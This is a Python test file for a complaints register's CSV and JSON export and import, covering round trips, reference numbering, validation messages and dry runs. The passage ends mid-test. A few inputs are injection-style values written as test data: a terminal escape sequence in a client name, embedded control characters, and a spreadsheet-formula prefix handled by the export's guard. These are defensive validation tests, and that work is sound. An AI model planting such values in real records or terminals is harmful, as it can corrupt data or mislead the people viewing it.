"""The register's export and import, on both databases: the round trip, every column, the checks
of an imported file (and Hypothesis fuzzing them), all-or-nothing, references, ranges, the
one-complaint export with its timeline, the export's record, streaming, and the command line."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import uuid
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import hypothesis
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from sqlalchemy import create_engine, event, select, text, update

from bot.complaints import service as complaints
from bot.core.context import make_context
from bot.core.errors import NotFound
from bot.core.money import Currency
from bot.core.vocabulary import (
    CLIENT_NAME_MAX,
    SUMMARY_MAX,
    AcknowledgedVia,
    Category,
    EventKind,
    OmbudsmanPoint,
    Outcome,
    ReceivedVia,
    Severity,
    Status,
)
from bot.disclosures import service as disclosures
from bot.records import register
from bot.records.register import COLUMNS, Reading, Rejection, read_register
from bot.rulebooks.schemes import RULEBOOKS, Rulebook
from handlers import cli
from handlers.modals.client_update import parse_client_update
from handlers.modals.disclosure import parse_disclosure
from handlers.modals.intake import parse_intake
from handlers.modals.resolve import parse_resolution
from handlers.modals.triage import parse_triage
from storage import register as store
from storage.db import make_engine, make_session_factory
from storage.migrate import upgrade
from storage.models import Complaint, Event, ReferenceCounter
from tests import factories
from tests.conftest import PG_URL, T0, _pg_schema_url, make_settings
from tests.factories import acknowledge, holding
from tests.fakes import RecordingNotifier, intake_values, no_team, triage_values

LONDON = ZoneInfo("Europe/London")
ROOT = Path(__file__).resolve().parents[3]  # the repository
ACTOR = "cli:tester"
HEADER = [c.name for c in COLUMNS]


# --- making records the way the bot does ----------------------------------------------------------


def log(ctx, **intake) -> str:
    today = ctx.today()
    data = parse_intake(intake_values(**intake), today=today)
    return complaints.log_complaint(
        session_factory=ctx.session_factory,
        data=data,
        reporter_id="UREPORTER",
        now=ctx.clock.now(),
        settings=ctx.settings,
        policy=ctx.policy,
    ).complaint.reference


def triage(ctx, ref: str, **values) -> None:
    data = parse_triage(triage_values(**values), today=ctx.today())
    complaints.triage_complaint(
        session_factory=ctx.session_factory,
        reference=ref,
        data=data,
        actor="ULEAD",
        now=ctx.clock.now(),
        settings=ctx.settings,
        policy=ctx.policy,
    )


def client_update(ctx, ref: str) -> None:
    data = parse_client_update(
        {
            "update_date": ctx.today().isoformat(),
            "update_via": "phone",
            "told": "We are chasing the other side.",
            "next_step": None,
        },
        today=ctx.today(),
    )
    complaints.log_client_update(
        session_factory=ctx.session_factory,
        reference=ref,
        data=data,
        actor="UHANDLER1",
        now=ctx.clock.now(),
        policy=ctx.policy,
    )


def resolve(ctx, ref: str, outcome: str = "partly_upheld") -> None:
    data = parse_resolution(
        {
            "outcome": outcome,
            "remedy": "Apology and a £250 fee reduction.",
            "final_response_sent_on": ctx.today().isoformat(),
            "ombudsman": ",".join(p.value for p in OmbudsmanPoint),
            "root_cause": "delay",
        },
        today=ctx.today(),
    )
    complaints.resolve(
        session_factory=ctx.session_factory,
        reference=ref,
        data=data,
        actor="UHANDLER1",
        now=ctx.clock.now(),
        settings=ctx.settings,
    )


def hold(ctx, ref: str) -> None:
    with ctx.session_factory.begin() as session:
        session.execute(
            update(Complaint)
            .where(Complaint.reference == ref)
            .values(legal_hold_at=ctx.clock.now(), legal_hold_by="ULEAD", legal_hold_reason="Claim issued.")
        )


def disclose(ctx, matter_ref: str) -> str:
    data = parse_disclosure(
        {
            "client_name": "Jane Client",
            "matter_ref": matter_ref,
            "kind": "costs_estimate",
            "content": "Estimated fees £12,000 plus VAT.",
            "disclosed_on": ctx.today().isoformat(),
            "disclosed_via": "email",
            "ack_status": "pending",
            "follow_up_on": None,
            "document_url": "https://docs.example.com/letter.pdf",
        },
        today=ctx.today(),
    )
    return disclosures.log_disclosure(
        session_factory=ctx.session_factory,
        data=data,
        logged_by="UFEE",
        now=ctx.clock.now(),
        settings=ctx.settings,
        policy=ctx.policy,
    ).disclosure.reference


def hand_built(ctx) -> str:
    """Logged 23 Nov 2026 09:30 UTC (the problem on 30 Sep, the client aware on 12 Oct), triaged at
    11:30, one client update and a holding response the next day, resolved on 1 Dec at 10:00 UTC, then put on legal hold;
    the clock is left there."""
    ref = log(
        ctx,
        received_on="2026-11-20",
        client_request="A date for completion and an apology.",
        problem_on="2026-09-30",
        aware_on="2026-10-12",
    )
    acknowledge(ctx, ref)
    ctx.clock.advance(hours=2)
    triage(ctx, ref)
    ctx.clock.advance(hours=22)
    client_update(ctx, ref)
    holding(ctx, ref, sent_on="2026-11-24", expected_on="2026-12-04")
    ctx.clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=UTC))
    resolve(ctx, ref)
    hold(ctx, ref)
    return ref


def a_store_of_every_kind(ctx) -> list[str]:
    """Complaints in every state the services make, with free text that needs quoting, and a
    disclosure; the clock is left after them all."""
    refs = [hand_built(ctx)]
    ctx.clock.set(T0 + timedelta(days=9))
    refs.append(
        log(
            ctx,
            client_name='Ann "A" O\'Neil, Ltd',
            matter_ref="M-2",
            received_on="2026-11-30",
            summary="Line one,\nline two; with “quotes” and a £ sign.",
            client_request=None,
            received_via="phone",
        )
    )
    ctx.clock.advance(hours=1)
    refs.append(log(ctx, matter_ref=None, received_on="2026-11-25", category="costs"))
    triage(ctx, refs[-1], severity="critical", handler="WHANDLER2", update_cadence_days="3")
    ctx.clock.advance(hours=1)
    reopened = log(ctx, received_on="2026-11-02", category="communication")
    triage(ctx, reopened, severity="low")
    resolve(ctx, reopened, outcome="withdrawn")
    ctx.clock.advance(hours=1)
    complaints.reopen(
        session_factory=ctx.session_factory,
        reference=reopened,
        actor="ULEAD",
        now=ctx.clock.now(),
        settings=ctx.settings,
        policy=ctx.policy,
    )
    refs.append(reopened)
    disclose(ctx, "M-1001")
    ctx.clock.advance(hours=1)
    return refs


# --- helpers over a store -------------------------------------------------------------------------


class Store:
    """An engine and session factory, for a second store beside the fixture's."""

    def __init__(self, engine):
        self.engine = engine
        self.session_factory = make_session_factory(engine)


@pytest.fixture
def other_store(db_url, tmp_path):
    """A second empty, migrated store of the same kind as `db_url`'s."""
    if db_url.startswith("sqlite"):
        engine = make_engine(f"sqlite:///{tmp_path / 'other.db'}")
        upgrade(engine)
        yield Store(engine)
        engine.dispose()
        return
    schema = f"t_{uuid.uuid4().hex[:12]}"
    admin = create_engine(PG_URL, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE SCHEMA "{schema}"'))
    engine = make_engine(_pg_schema_url(schema))
    upgrade(engine)
    yield Store(engine)
    engine.dispose()
    with admin.connect() as conn:
        conn.execute(text(f'DROP SCHEMA "{schema}" CASCADE'))
    admin.dispose()


def export(where, fmt: str = "csv", *, now: datetime = T0, **kwargs) -> str:
    out = io.StringIO(newline="")
    register.export_register(
        engine=where.engine,
        session_factory=where.session_factory,
        out=out,
        fmt=fmt,
        actor=ACTOR,
        now=now,
        tz=LONDON,
        **kwargs,
    )
    return out.getvalue()


def export_file(where, path: Path, fmt: str = "csv", *, now: datetime = T0) -> bytes:
    with register.output(path, io.StringIO()) as out:
        register.export_register(
            engine=where.engine,
            session_factory=where.session_factory,
            out=out,
            fmt=fmt,
            actor=ACTOR,
            now=now,
            tz=LONDON,
        )
    return path.read_bytes()


def import_into(
    where, content: str, ctx, *, now: datetime | None = None, dry_run: bool = False, rulebook: Rulebook | None = None
):
    return register.import_register(
        session_factory=where.session_factory,
        source=io.StringIO(content, newline=""),
        file_name="register.csv",
        actor=ACTOR,
        now=now or ctx.clock.now(),
        tz=LONDON,
        policy=ctx.policy,
        rulebook=rulebook or ctx.settings.rulebook,
        dry_run=dry_run,
    )


def rows_of(csv_text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_text, newline="")))


def csv_text(rows: list[dict[str, str]], header: list[str] | None = None) -> str:
    header = header or list(rows[0])
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, header)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def snapshot(where) -> dict[str, list]:
    """Every row of the tables an import writes, to show an import changed nothing."""
    with where.session_factory() as session:
        return {
            "complaints": [tuple(r) for r in session.execute(select(Complaint.__table__).order_by(Complaint.id))],
            "events": [tuple(r) for r in session.execute(select(Event.__table__).order_by(Event.id))],
            "counters": [
                tuple(r)
                for r in session.execute(
                    select(ReferenceCounter.__table__).order_by(ReferenceCounter.prefix, ReferenceCounter.year)
                )
            ],
        }


def good_row(**overrides: str) -> dict[str, str]:
    row = {
        "client_name": "Jane Client",
        "received_on": "2026-11-02",
        "category": "delay",
        "summary": "No reply to three emails.",
        "reference": "",
        "handler": "",
        "severity": "",
        "resolved_at": "",
        "outcome": "",
        "status": "",
    }
    row.update(overrides)
    return row


# --- the round trip and every column --------------------------------------------------------------


def test_export_import_export_gives_the_same_bytes_and_json(ctx, other_store, tmp_path):
    a_store_of_every_kind(ctx)
    first_csv = export_file(ctx, tmp_path / "a.csv")
    first_json = json.loads(export(ctx, "json"))
    assert len(first_json) == 4 and first_csv.count(b"CMP-2026-") == 4
    # The client's dates and the referral date are in it, so the round trip carries them too.
    assert [(i["problem_on"], i["aware_on"], i["ombudsman_referral_by"]) for i in first_json] == [
        ("2026-09-30", "2026-10-12", "2027-06-01"),
        (None, None, None),
        (None, None, None),
        (None, None, None),  # resolved, then reopened: the referral date went with the resolution
    ]

    report = import_into(other_store, first_csv.decode(), ctx)
    assert report.written and report.rows == 4 and report.new_references == 0 and report.rejections == ()

    assert export_file(other_store, tmp_path / "b.csv") == first_csv
    assert json.loads(export(other_store, "json")) == first_json
    # Once more, from the imported store: what an import made imports the same way.
    third = Store(make_engine(f"sqlite:///{tmp_path / 'third.db'}"))
    upgrade(third.engine)
    assert import_into(third, (tmp_path / "b.csv").read_text(), ctx).written
    assert export_file(third, tmp_path / "c.csv") == first_csv


def test_the_acknowledgement_is_blank_in_the_register_until_recorded_as_sent(ctx):
    ref = log(ctx)
    [row] = rows_of(export(ctx))
    assert (row["acknowledged_at"], row["acknowledged_via"]) == ("", "")
    ctx.clock.advance(hours=3)  # Mon 23 Nov 2026 12:30 UTC
    acknowledge(ctx, ref, via=AcknowledgedVia.PHONE)
    [row] = rows_of(export(ctx))
    assert (row["acknowledged_at"], row["acknowledged_via"]) == ("2026-11-23T12:30:00Z", "phone")


# Columns this hand-built complaint leaves blank (set by the modals and the referral:
# tests/end_to_end/test_e2e_client_records.py): blank cells in CSV, null in JSON.
UNSET_HERE = (
    "product",
    "vulnerable",
    "adjustments",
    "redress_currency",
    "redress_offered",
    "redress_paid",
    "redress_paid_on",
    "referred_on",
    "ombudsman_reference",
    "ombudsman_decision",
    "ombudsman_decided_on",
    "ombudsman_award",
)


def test_every_column_of_a_hand_built_complaint(ctx):
    ref = hand_built(ctx)
    [row] = rows_of(export(ctx))
    assert list(row) == HEADER
    assert row == {
        "reference": ref,
        "status": "resolved",
        "received_on": "2026-11-20",
        "received_via": "email",
        "problem_on": "2026-09-30",
        "aware_on": "2026-10-12",
        "acknowledged_at": "2026-11-23T09:30:00Z",
        "acknowledged_via": "email",
        "client_name": "Jane Client",
        "matter_ref": "M-1001",
        "category": "delay",
        "summary": "No reply to three emails about the completion date.",
        "client_request": "A date for completion and an apology.",
        "reporter": "UREPORTER",
        "logged_at": "2026-11-23T09:30:00Z",
        "triaged_at": "2026-11-23T11:30:00Z",
        "severity": "high",
        "handler": "UHANDLER1",
        "target_date": "2026-12-18",
        "update_cadence_days": "5",
        "client_updates": "1",
        "last_client_update_at": "2026-11-24T09:30:00Z",
        "final_response_due_on": "2027-01-15",
        "holding_response_sent_on": "2026-11-24",
        "final_response_sent_on": "2026-12-01",
        "resolved_at": "2026-12-01T10:00:00Z",
        "outcome": "partly_upheld",
        "remedy": "Apology and a £250 fee reduction.",
        "root_cause": "delay",
        "ombudsman_rights_given": "yes",
        # The final response sent Tue 1 Dec 2026, + 6 months (Legal Ombudsman): Tue 1 Jun 2027.
        "ombudsman_referral_by": "2027-06-01",
        "summary_resolution": "",
        "days_to_resolve": "11",
        "legal_hold": "yes",
        # Set by the modals and the referral (tests/end_to_end/test_e2e_client_records.py); blank here.
        **dict.fromkeys(UNSET_HERE, ""),
    }
    [item] = json.loads(export(ctx, "json"))
    assert item["client_updates"] == 1 and item["update_cadence_days"] == 5 and item["days_to_resolve"] == 11
    assert item["ombudsman_rights_given"] is True and item["legal_hold"] is True
    assert item["summary_resolution"] is None  # the default scheme has no summary resolution
    assert all(item[k] is None for k in UNSET_HERE)
    assert {
        k: v
        for k, v in item.items()
        if k not in UNSET_HERE
        and k
        not in (
            "client_updates",
            "update_cadence_days",
            "days_to_resolve",
            "ombudsman_rights_given",
            "summary_resolution",
            "legal_hold",
        )
    } == {
        k: v
        for k, v in row.items()
        if k not in UNSET_HERE
        and k
        not in (
            "client_updates",
            "update_cadence_days",
            "days_to_resolve",
            "ombudsman_rights_given",
            "summary_resolution",
            "legal_hold",
        )
    }


def test_days_to_resolve_counts_the_resolution_day_in_the_firms_zone(ctx):
    ctx.clock.set(datetime(2026, 7, 1, 9, 0, tzinfo=UTC))
    ref = log(ctx, received_on="2026-06-30")
    # 23:30 UTC on 1 July is 00:30 on 2 July in London (summer time): two days, not one.
    ctx.clock.set(datetime(2026, 7, 1, 23, 30, tzinfo=UTC))
    resolve(ctx, ref, outcome="withdrawn")
    [row] = rows_of(export(ctx))
    assert row["days_to_resolve"] == "2" and row["ombudsman_rights_given"] == "yes" and row["legal_hold"] == ""


def test_a_summary_resolution_is_a_column_of_its_own_and_old_registers_import_without_it(
    db_url, engine, session_factory, clock, other_store
):
    fca = make_context(
        settings=make_settings(db_url, complaints_scheme="financial-ombudsman"),
        engine=engine,
        session_factory=session_factory,
        notifier=RecordingNotifier(),
        clock=clock,
        team=no_team(),
    )
    summary, final = log(fca), log(fca)
    # Received Fri 20 Nov 2026, resolved Mon 23 Nov at 09:30: within the three business days.
    for ref, values in ((summary, {"summary_resolution": "summary", "ombudsman": None}), (final, {})):
        factories.resolve(fca, ref, **values)
    rows = rows_of(export(fca))
    assert [r["summary_resolution"] for r in rows] == ["yes", "no"]
    assert [r["summary_resolution"] for r in json.loads(export(fca, "json"))] == [True, False]
    # Imported elsewhere, then exported again: the same.
    assert import_into(other_store, export(fca), fca).written
    assert [r["summary_resolution"] for r in rows_of(export(other_store))] == ["yes", "no"]
    # A register kept before the column imports, the resolution's manner not recorded.
    old = [{k: v for k, v in r.items() if k not in ("reference", "summary_resolution")} for r in rows]
    assert import_into(other_store, csv_text(old, header=list(old[0])), fca).written
    assert [r["summary_resolution"] for r in rows_of(export(other_store))][2:] == ["", ""]


def test_readme_documents_the_column_set_the_code_uses():
    assert register.describe() in (ROOT / "README.md").read_text()


# --- what an import stores ------------------------------------------------------------------------


def test_an_imported_register_gets_its_clocks_from_the_policy(ctx):
    content = csv_text(
        [
            good_row(
                reference="CMP-2025-0040",
                resolved_at="2025-03-01T12:00:00Z",
                outcome="upheld",
                received_on="2025-02-01",
                logged_at="2025-02-01T10:15:00+01:00",
                legal_hold="YES",
                ombudsman_rights_given="no",
            ),
            good_row(
                handler="U0HANDLER",
                severity="critical",
                received_on="2026-11-16",
                triaged_at="2026-11-16T15:00:00Z",
                client_updates="4",
                acknowledged_at="2026-11-16",
                received_via="Letter",
                category="COSTS",
            ),
            good_row(received_on="2026-11-20", status="new", matter_ref="M-9", logged_at=""),
        ],
        header=[
            *good_row(),
            "logged_at",
            "legal_hold",
            "ombudsman_rights_given",
            "triaged_at",
            "client_updates",
            "acknowledged_at",
            "received_via",
            "matter_ref",
        ],
    )
    report = import_into(ctx, content, ctx)
    assert report.written and (report.rows, report.new_references) == (3, 2)
    with ctx.session_factory() as session:
        old, triaged, new = session.execute(select(Complaint).order_by(Complaint.id)).scalars().all()
        events = session.execute(select(Event).order_by(Event.id)).scalars().all()

    assert (old.reference, old.ref_year, old.ref_seq, old.status) == ("CMP-2025-0040", 2025, 40, "resolved")
    assert old.logged_at == datetime(2025, 2, 1, 9, 15, tzinfo=UTC)
    assert old.triage_due_at == old.logged_at + timedelta(hours=24)
    assert old.next_reminder_at is None and old.next_update_due_at is None
    assert (old.legal_hold_at, old.legal_hold_by) == (T0, ACTOR) and old.legal_hold_reason
    assert old.ombudsman_rights_given is False and old.reporter_id == ACTOR
    assert old.final_response_due_on == date(2025, 3, 29)

    # No reference: the next numbers of the year of logging, in the order of the file.
    assert (triaged.reference, new.reference) == ("CMP-2026-0001", "CMP-2026-0002")
    assert (triaged.status, triaged.update_cadence_days, triaged.client_update_count) == ("triaged", 2, 4)
    assert triaged.next_update_due_at == datetime(2026, 11, 18, 15, 0, tzinfo=UTC)
    assert triaged.next_reminder_at == T0 and triaged.acknowledged_at == datetime(2026, 11, 16, 9, 0, tzinfo=UTC)
    assert (triaged.received_via, triaged.category) == ("letter", "costs")
    # A blank logged_at: received_on at 09:00 firm time.
    assert new.logged_at == datetime(2026, 11, 20, 9, 0, tzinfo=UTC) and new.status == "new"
    assert new.received_via == "other" and new.next_update_due_at is None and new.next_reminder_at == T0
    assert [(e.complaint_id, e.kind, e.actor, e.at, e.data["line"], e.data["file"]) for e in events] == [
        (old.id, "imported", ACTOR, T0, 2, "register.csv"),
        (triaged.id, "imported", ACTOR, T0, 3, "register.csv"),
        (new.id, "imported", ACTOR, T0, 4, "register.csv"),
    ]


NEW_COLUMNS = ("problem_on", "aware_on", "ombudsman_referral_by")


def without(csv_text_: str, dropped: tuple[str, ...]) -> str:
    """`csv_text_` with the columns `dropped` taken out, as a register from before them would be."""
    rows = rows_of(csv_text_)
    return csv_text([{k: v for k, v in row.items() if k not in dropped} for row in rows])


def test_an_old_register_without_the_new_columns_still_imports(ctx, other_store, tmp_path):
    a_store_of_every_kind(ctx)
    current = export_file(ctx, tmp_path / "a.csv").decode()
    old = without(current, NEW_COLUMNS)
    assert not set(NEW_COLUMNS) & set(old.splitlines()[0].split(","))

    report = import_into(other_store, old, ctx)
    assert report.written and report.rows == 4 and report.rejections == ()
    # The client's dates were never in the file, so they are blank; the resolved complaint's
    # referral date is worked out as resolving worked it out (sent 1 Dec 2026 + 6 months: 1 Jun 2027).
    again = rows_of(export_file(other_store, tmp_path / "b.csv").decode())
    assert [(r["problem_on"], r["aware_on"], r["ombudsman_referral_by"]) for r in again] == [
        ("", "", "2027-06-01"),
        ("", "", ""),
        ("", "", ""),
        ("", "", ""),
    ]
    # Every other column is as it was.
    assert [{k: v for k, v in r.items() if k not in NEW_COLUMNS} for r in again] == rows_of(old)


def test_the_referral_date_an_import_works_out_follows_the_scheme_and_one_given_is_kept(ctx, other_store):
    resolved = dict(
        resolved_at="2026-03-02T12:00:00Z",
        outcome="upheld",
        final_response_sent_on="2026-02-27",
        ombudsman_referral_by="",
        received_on="2026-02-02",
    )
    content = csv_text(
        [
            good_row(reference="CMP-2026-0001", **resolved),
            good_row(reference="CMP-2026-0002", **{**resolved, "ombudsman_referral_by": "2026-09-01"}),
            # Resolved with no date of a final response (a withdrawal, say): nothing to count from.
            good_row(reference="CMP-2026-0003", **{**resolved, "final_response_sent_on": "", "outcome": "withdrawn"}),
        ]
    )

    def referral_dates(where) -> list[date | None]:
        with where.session_factory() as session:
            return list(session.execute(select(Complaint.ombudsman_referral_by).order_by(Complaint.id)).scalars())

    assert ctx.settings.rulebook.key == "legal-ombudsman"
    assert import_into(ctx, content, ctx).written
    # Sent Fri 27 Feb 2026 + 6 months: Thu 27 Aug 2026.
    assert referral_dates(ctx) == [date(2026, 8, 27), date(2026, 9, 1), None]
    assert import_into(other_store, content, ctx, rulebook=RULEBOOKS["none"]).written
    # No ombudsman: none is worked out; one the file gives is the firm's record, and kept.
    assert referral_dates(other_store) == [None, date(2026, 9, 1), None]


def test_new_references_never_collide_with_imported_ones(ctx):
    first = log(ctx, received_on="2026-11-20")
    assert first == "CMP-2026-0001"
    content = csv_text(
        [
            good_row(reference="CMP-2026-0007"),
            good_row(),
            good_row(reference="cmp-2026-3"),
            good_row(reference="CMP-2024-0100", received_on="2024-05-01"),
        ]
    )
    report = import_into(ctx, content, ctx)
    assert report.written and report.new_references == 1
    with ctx.session_factory() as session:
        refs = session.execute(select(Complaint.reference).order_by(Complaint.id)).scalars().all()
        counters = dict(session.execute(select(ReferenceCounter.year, ReferenceCounter.last_value)).all())
    assert refs == ["CMP-2026-0001", "CMP-2026-0007", "CMP-2026-0008", "CMP-2026-0003", "CMP-2024-0100"]
    assert counters == {2026: 8, 2024: 100}
    assert log(ctx, received_on="2026-11-21") == "CMP-2026-0009"

    # A lower kept reference never lowers a counter.
    assert import_into(
        ctx,
        csv_text([good_row(reference="CMP-2026-0005"), good_row(reference="CMP-2024-0002", received_on="2024-01-02")]),
        ctx,
    ).written
    with ctx.session_factory() as session:
        assert dict(session.execute(select(ReferenceCounter.year, ReferenceCounter.last_value)).all()) == {
            2026: 9,
            2024: 100,
        }
    assert log(ctx, received_on="2026-11-21") == "CMP-2026-0010"


def test_references_and_events_line_up_across_insert_batches(ctx, monkeypatch):
    monkeypatch.setattr(register, "INSERT_BATCH", 3)
    rows = [
        good_row(
            client_name=f"Client {i}",
            received_on=f"2025-06-0{1 + i % 2}" if i % 3 else "2026-11-02",
            reference=f"CMP-2025-00{50 + i}" if i % 4 == 0 else "",
        )
        for i in range(8)
    ]
    assert import_into(ctx, csv_text(rows), ctx).written
    with ctx.session_factory() as session:
        stored = session.execute(
            select(Complaint.id, Complaint.reference, Complaint.client_name).order_by(Complaint.id)
        ).all()
        events = session.execute(select(Event.complaint_id, Event.data).order_by(Event.id)).all()
    assert [(name, ref) for _, ref, name in stored] == [
        ("Client 0", "CMP-2025-0050"),
        ("Client 1", "CMP-2025-0055"),
        ("Client 2", "CMP-2025-0056"),
        ("Client 3", "CMP-2026-0001"),
        ("Client 4", "CMP-2025-0054"),
        ("Client 5", "CMP-2025-0057"),
        ("Client 6", "CMP-2026-0002"),
        ("Client 7", "CMP-2025-0058"),
    ]
    assert [(complaint_id, data["reference"], data["line"]) for complaint_id, data in events] == [
        (complaint_id, ref, line) for (complaint_id, ref, _), line in zip(stored, range(2, 10), strict=False)
    ]


# --- rejections: the dry run and all-or-nothing ---------------------------------------------------


BAD_FILE_ROWS = [
    good_row(reference="CMP-2026-0002"),  # line 2: fine
    good_row(received_on="2026-02-30"),  # 3
    good_row(category="billing"),  # 4
    good_row(reference="CMP-2026-0002"),  # 5: repeated
    good_row(resolved_at="2026-11-03T10:00:00Z"),  # 6: no outcome
    good_row(reference="CMP-2026-0001"),  # 7: already in the store
    good_row(handler="jane", severity="high"),  # 8
    good_row(summary="x" * (SUMMARY_MAX + 1)),  # 9
    good_row(received_on="2026-11-24"),  # 10: tomorrow
    good_row(status="resolved"),  # 11
    good_row(reference="CMP-26-1", client_name=""),  # 12: two problems
    good_row(),  # 13: fine
]
BAD_FILE_REPORT = [
    "line 3, column received_on: “2026-02-30” is not a date; write it as YYYY-MM-DD, e.g. 2026-11-23",
    "line 4, column category: “billing” is not one of: costs, delay, communication, advice, conduct, confidentiality, other",
    "line 5, column reference: CMP-2026-0002 is also on line 2; a reference is given once",
    "line 6, column outcome: is required for a resolved complaint (resolved_at is given)",
    "line 7, column reference: CMP-2026-0001 is already in the store",
    "line 8, column handler: “jane” is not a Slack member id (U… or W…, from the person's profile → Copy member ID)",
    f"line 9, column summary: is {SUMMARY_MAX + 1:,} characters long; the most is {SUMMARY_MAX:,}",
    "line 10, column received_on: 2026-11-24 is in the future (today is 2026-11-23 in the firm's time zone)",
    "line 11, column status: says resolved but the row is new: with no resolved_at, and no handler and severity, it awaits triage",
    "line 12, column reference: “CMP-26-1” is not a complaint reference; they look like CMP-2026-0001",
    "line 12, column client_name: is required",
]


def test_the_dry_run_reports_every_bad_row_and_writes_nothing(ctx):
    log(ctx, received_on="2026-11-20")
    before = snapshot(ctx)
    report = import_into(ctx, csv_text(BAD_FILE_ROWS), ctx, dry_run=True)
    assert [str(r) for r in report.rejections] == BAD_FILE_REPORT
    assert (report.rows, report.rejected_rows, report.written) == (2, 10, False)
    assert snapshot(ctx) == before
    # A file with nothing wrong: the dry run says what it would do, and still writes nothing.
    report = import_into(ctx, csv_text([BAD_FILE_ROWS[0], BAD_FILE_ROWS[-1]]), ctx, dry_run=True)
    assert (report.rows, report.new_references, report.rejections, report.written) == (2, 1, (), False)
    assert snapshot(ctx) == before


def test_one_bad_row_among_good_ones_and_nothing_is_written(ctx):
    log(ctx, received_on="2026-11-20")
    before = snapshot(ctx)
    rows = [good_row(client_name=f"Client {i}") for i in range(50)]
    rows[37]["severity"] = "urgent"
    rows[37]["handler"] = "U0HANDLER"
    report = import_into(ctx, csv_text(rows), ctx)
    assert [str(r) for r in report.rejections] == [
        "line 39, column severity: “urgent” is not one of: critical, high, medium, low"
    ]
    assert not report.written and snapshot(ctx) == before
    rows[37]["severity"] = "medium"
    assert import_into(ctx, csv_text(rows), ctx).written
    assert len(snapshot(ctx)["complaints"]) == 51


@pytest.mark.parametrize(
    "row, reasons",
    [
        (good_row(outcome="upheld"), ["column resolved_at: is required when an outcome is given"]),
        (good_row(remedy="£100"), ["column remedy: only a resolved complaint has one"]),
        (good_row(handler="U0HANDLER"), ["column severity: an open complaint that has been triaged needs both"]),
        (
            good_row(handler="U0HANDLER", severity="low", status="new"),
            ["column status: says new but the row is triaged"],
        ),
        (
            good_row(resolved_at="2026-11-01T10:00:00Z", outcome="upheld"),
            ["column resolved_at: is before received_on (2026-11-02)"],
        ),
        (good_row(logged_at="2026-11-23T10:00:00Z"), ["column logged_at: 2026-11-23T10:00:00Z is in the future"]),
        (good_row(logged_at="23/11/2026 09:00"), ["column logged_at: “23/11/2026 09:00” is not a time"]),
        (good_row(logged_at="1850-01-01"), ["column logged_at: 1850-01-01 is before 1900"]),
        (good_row(update_cadence_days="0"), ["column update_cadence_days: “0” is not a whole number from 1 to 90"]),
        (
            good_row(ombudsman_rights_given="maybe", resolved_at="2026-11-03", outcome="upheld"),
            ["column ombudsman_rights_given: “maybe” is not yes or no"],
        ),
        (good_row(legal_hold="true"), ["column legal_hold: “true” is not yes"]),
        (good_row(summary_resolution="yes"), ["column summary_resolution: only a resolved complaint has one"]),
        (
            good_row(summary_resolution="y", resolved_at="2026-11-03", outcome="upheld"),
            ["column summary_resolution: “y” is not yes or no"],
        ),
        (
            good_row(client_name="x" * (CLIENT_NAME_MAX + 1)),
            ["column client_name: is 201 characters long; the most is 200"],
        ),
        (
            good_row(summary="a\x00b"),
            ["column summary: contains a control character (U+0000) at character 2 that cannot be stored; remove it"],
        ),
        (
            good_row(client_name="Jane\x1b[2J"),
            ["column client_name: contains a control character (U+001B) at character 5"],
        ),
        (
            good_row(matter_ref="M-1\r\nM-2"),
            ["column matter_ref: contains a control character (U+000D) at character 4"],
        ),
        (good_row(summary="a\x7fb\x85"), ["column summary: contains a control character (U+007F) at character 2"]),
        (good_row(summary="caf\udce9"), ["column summary: is not UTF-8 text"]),
        (good_row(summary="half \ud800 a pair"), ["column summary: is not UTF-8 text"]),
        (good_row(summary="Line one,\n\tline two"), []),
        # A leading quote before a formula character is the export's guard: taken off, then the length counted.
        (good_row(summary="'=" + "x" * (SUMMARY_MAX - 1)), []),
        (good_row(summary="'=" + "x" * SUMMARY_MAX), [f"column summary: is {SUMMARY_MAX + 1:,} characters long"]),
        (good_row(reporter="cli:someone"), []),
        (good_row(problem_on="2026-10-01", aware_on="2026-10-10"), []),
        (good_row(problem_on="2026-11-02", aware_on="2026-11-02"), []),
        (good_row(problem_on="2026-11-03"), ["column problem_on: 2026-11-03 is after received_on (2026-11-02)"]),
        (good_row(aware_on="2026-11-03"), ["column aware_on: 2026-11-03 is after received_on (2026-11-02)"]),
        (
            good_row(problem_on="2026-10-10", aware_on="2026-10-01"),
            ["column aware_on: 2026-10-01 is before problem_on (2026-10-10)"],
        ),
        (
            good_row(problem_on="2026-11-04", aware_on="2026-11-03"),
            [
                "column problem_on: 2026-11-04 is after received_on (2026-11-02)",
                "column aware_on: 2026-11-03 is after received_on (2026-11-02)",
            ],
        ),
        # A date that cannot be read is reported alone: the rule between the dates waits for it.
        (good_row(problem_on="2026-10-41", aware_on="2026-10-01"), ["column problem_on: “2026-10-41” is not a date"]),
        (
            good_row(received_on="2026-11-31", problem_on="2026-12-01"),
            ["column received_on: “2026-11-31” is not a date"],
        ),
        (
            good_row(ombudsman_referral_by="2027-05-01"),
            ["column ombudsman_referral_by: only a resolved complaint has one"],
        ),
        (
            good_row(
                ombudsman_referral_by="2027-05-01",
                resolved_at="2026-11-03T10:00:00Z",
                outcome="upheld",
                final_response_sent_on="2026-11-03",
            ),
            [],
        ),
        (good_row(reporter="ULEAD", handler="WEXTERNAL1", severity="low", days_to_resolve="garbage"), []),
    ],
)
def test_rules_across_cells(row, reasons):
    header = list(dict.fromkeys([*row, "days_to_resolve"]))
    parsed = read_register(io.StringIO(csv_text([row], header), newline=""), reading=Reading(now=T0, tz=LONDON))
    got = [str(r) for r in parsed.rejections]
    assert len(got) == len(reasons), got
    for have, want in zip(got, reasons, strict=False):
        assert have.startswith(f"line 2, {want}"), (have, want)
    assert len(parsed.rows) == (0 if reasons else 1)


@pytest.mark.parametrize(
    "content, report",
    [
        (
            "",
            [
                "line 1, column received_on: this required column is missing from the header",
                "line 1, column client_name: this required column is missing from the header",
                "line 1, column category: this required column is missing from the header",
                "line 1, column summary: this required column is missing from the header",
            ],
        ),
        (
            "client_name,received_on,category,summary,colour\r\n",
            ["line 1, column colour: unknown column; the columns are: " + ", ".join(HEADER)],
        ),
        ("client_name,received_on,category,summary,summary\r\n", ["line 1, column summary: the column is named twice"]),
